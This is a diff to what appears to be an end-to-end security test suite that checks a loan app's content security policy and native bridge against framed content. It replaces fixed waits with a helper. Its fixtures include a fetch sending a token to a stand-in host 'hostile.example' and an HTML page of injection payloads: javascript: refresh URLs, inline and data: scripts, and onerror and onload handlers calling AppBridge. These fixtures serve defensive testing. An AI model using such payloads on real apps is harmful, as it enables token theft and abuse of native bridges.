@@ -2,6 +2,7 @@ import { versionOf } from '../../tools/build/packages';
 import { startFront } from '../world/front';
 import { expect, test } from '../world/journey';
 import { aroundPage } from '../world/native';
+import { reached } from '../world/passing';
 import { CLIENT_RENDERED } from '../world/stores';
 import { hostileRan, strayRequests } from './attack';
 
@@ -108,7 +109,7 @@ test('the policy of the page is in force: inline script, eval, javascript addres
     'a policy of its own': 'TypeError',
     'the policy that makes HTML': 'TypeError',
   });
-  await page.waitForTimeout(500);
+  await reached(page);
   const fetched = await page.evaluate(() =>
     fetch('https://hostile.example/?token=1').then(
       () => 'sent',
@@ -174,7 +175,7 @@ for (const [market, productId, apply, intro] of [
 }
 
 /** A page that calls the native bridge in every way available to a frame, on any click and without one. */
-const SPEAKING = `<!doctype html><meta http-equiv="refresh" content="1;url=javascript:AppBridge.openPage('refresh')">
+const SPEAKING = `<!doctype html><meta http-equiv="refresh" content="0;url=javascript:AppBridge.openPage('refresh')">
 <h1>Framed terms</h1><script>AppBridge.callPhone('0800')</script><script>parent.AppBridge.openPage('loanapp://x')</script>
 <script src="data:text/javascript,AppBridge.openPage('data')"></script>
 <img src="x:" onerror="AppBridge.openPage('handler')"><body onload="AppBridge.openPage('load')">
@@ -215,8 +216,8 @@ for (const native of ['android', 'ios'] as const) {
       await expect(framed.getByRole('heading', { name: 'Framed terms' })).toBeVisible();
       await framed.getByRole('link', { name: 'further' }).tap();
       await framed.getByRole('button', { name: 'send' }).tap();
-      // Longer than the page's own refresh.
-      await page.waitForTimeout(1500);
+      // The frame's own refresh was due when it had loaded.
+      await reached(page);
       expect(calls, `${bridge} from ${address}`).toEqual([]);
       expect(page.url()).toContain('/loanConfirm?');
       rule.end();
